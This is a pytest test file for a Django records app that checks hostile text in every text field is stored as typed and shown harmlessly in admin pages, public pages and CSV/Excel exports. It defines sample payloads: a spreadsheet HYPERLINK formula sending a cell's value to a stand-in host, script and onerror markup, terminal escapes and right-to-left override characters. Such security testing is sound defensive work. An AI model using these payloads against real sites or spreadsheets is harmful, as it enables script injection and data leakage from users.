"""Hostile text — HTML, spreadsheet formulas, control characters, right-to-left marks, the longest
strings a field takes — typed into every text field is stored as typed, and shows as plain text in
the admin, on the pages and in exports: never markup, never a formula."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.db import models
from django.urls import reverse

from movement.models import (
    Award,
    AwardType,
    Campaign,
    Event,
    Participation,
    Person,
    Rank,
    Source,
    Task,
    Unit,
    WorkArea,
    WorkPlan,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
CONTROL = "chuông\x07 thoát\x1b[31m\ttab\nxuống dòng"
RIGHT_TO_LEFT = "\u202eđảo chiều\u202c \u200f"
# Long enough for any text field; character fields take as much as their max_length allows.
TEXT_LENGTH = 20_000


def hostile(field: models.Field, number: int) -> str:
    text = f"{FORMULA} {MARKUP} {CONTROL} {RIGHT_TO_LEFT} #{number} "
    length = field.max_length or TEXT_LENGTH
    return (text + "Ư" * length)[:length]


def text_fields(model: type[models.Model]) -> list[models.Field]:
    """The fields a person types free text into."""
    return [
        field
        for field in model._meta.fields
        if isinstance(field, models.CharField | models.TextField)
        and field.editable
        and not field.choices
        and not isinstance(field, models.SlugField)
    ]


def typed(model: type[models.Model], **values) -> models.Model:
    """A record with hostile text in every text field, validated like a form would, then saved."""
    record = model(**values)
    for number, field in enumerate(text_fields(model)):
        setattr(record, field.attname, hostile(field, number))
    record.full_clean()
    record.save()
    return record


@pytest.fixture
def records(db, ministry) -> dict[str, models.Model]:
    source = typed(Source, slug="nguon")
    unit = typed(Unit, slug="don-vi", kind=Unit.Kind.DEPARTMENT, parent=ministry, source=source)
    rank = typed(Rank, seniority=99, tier=Rank.Tier.FIELD)
    person = typed(Person, slug="can-bo", unit=unit, rank=rank)
    event = typed(Event, slug="hoi-nghi", year=2017, organiser=unit)
    campaign = typed(
        Campaign, slug="phong-trao", kind=Campaign.Kind.EMULATION, start_year=2017, end_year=2017
    )
    # The type cites an article (hostile too), so it names the legal text that holds it.
    law = typed(Source, slug="luat", kind=Source.Kind.LAW)
    award_type = typed(
        AwardType,
        category=AwardType.Category.CERTIFICATE_OF_MERIT,
        for_individuals=True,
        for_collectives=True,
        legal_source=law,
    )
    award = typed(
        Award, award_type=award_type, year=2017, recipient_person=person, campaign=campaign
    )
    plan = typed(WorkPlan, unit=unit, year=2017, campaign=campaign)
    return {
        "source": source,
        "unit": unit,
        "rank": rank,
        "person": person,
        "event": event,
        "participation": typed(
            Participation, event=event, person=person, role=Participation.Role.SPEAKER
        ),
        "campaign": campaign,
        "awardtype": award_type,
        "award": award,
        "workplan": plan,
        "workarea": typed(WorkArea, plan=plan, number=1),
        "task": typed(Task, plan=plan, number=1),
    }


def test_every_text_field_is_stored_as_typed(records):
    checked = 0
    for record in records.values():
        stored = type(record).objects.get(pk=record.pk)
        for number, field in enumerate(text_fields(type(record))):
            # In the field's one stored form (movement.models.fields): LF line breaks, and a
            # one-line text's white space collapsed; nothing else changed.
            assert getattr(stored, field.attname) == field.to_python(hostile(field, number))
            checked += 1
    assert checked >= 30


def assert_harmless(html: str, where: str, shown: bool = True) -> None:
    assert "<script>alert" not in html, where
    assert "<img src=x onerror" not in html, where
    if shown:
        assert "&lt;script&gt;alert(" in html, where


ADMIN_PAGES = [
    "source",
    "unit",
    "rank",
    "person",
    "event",
    "campaign",
    "awardtype",
    "award",
    "workplan",
    "task",
]


@pytest.mark.parametrize("model", ADMIN_PAGES)
def test_the_admin_shows_hostile_text_as_text(admin_client, records, model):
    record = records[model]
    pages = {
        "change": reverse(f"admin:movement_{model}_change", args=[record.pk]),
        "history": reverse(f"admin:movement_{model}_history", args=[record.pk]),
        "list": reverse(f"admin:movement_{model}_changelist"),
    }
    for name, url in pages.items():
        response = admin_client.get(url)
        assert response.status_code == 200, name
        # A rank's name (50 characters) holds the formula but not the markup after it.
        shown = model != "rank" and (name != "list" or MARKUP in str(record))
        assert_harmless(response.content.decode(), f"{model} {name}", shown)


def test_the_pages_show_hostile_text_as_text(client, records):
    pages = [
        records["unit"].get_absolute_url(),
        records["person"].get_absolute_url(),
        records["campaign"].get_absolute_url(),
        reverse("movement:award_list"),
        reverse("movement:year_detail", args=[2017]),
        reverse("movement:home"),
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_harmless(response.content.decode(), url)


def export(client, url: str, data: dict) -> bytes:
    response = client.post(url, data)
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def export_form(model: type[models.Model], file_format: str) -> dict:
    model_admin = admin.site.get_model_admin(model)
    formats = [f.__name__ for f in model_admin.get_export_formats()]
    resource = model_admin.get_export_resource_classes(None)[0]()
    prefix = type(resource).__name__.lower()
    fields = {f"{prefix}_{name}": "on" for name in resource.get_export_order()}
    return {"format": str(formats.index(file_format)), "resource": "0", **fields}


@pytest.mark.parametrize("model", [Award, Unit, Person, Campaign, Task, Source])
def test_csv_exports_hold_no_formula(admin_client, records, model):
    url = reverse(f"admin:movement_{model._meta.model_name}_export")
    content = export(admin_client, url, export_form(model, "CSV")).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert any(MARKUP in cell for cell in cells)


@pytest.mark.parametrize("model", [Award, Unit, Person, Campaign, Task, Source])
def test_excel_exports_hold_no_formula(admin_client, records, model):
    url = reverse(f"admin:movement_{model._meta.model_name}_export")
    content = export(admin_client, url, export_form(model, "XLSX"))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # Shown as typed, guarded by Excel's quote prefix rather than a visible apostrophe.
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert any(cell.value.startswith(FORMULA) and cell.quotePrefix for cell in texts)
    assert not [
        cell.coordinate
        for cell in texts
        if cell.value.startswith(("=", "+", "-", "@")) and not cell.quotePrefix
    ]


def test_the_public_award_export_holds_no_formula(client, records):
    response = client.get(reverse("movement:award_export", args=["csv"]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    assert not [cell for cell in cells if cell.startswith("=")]
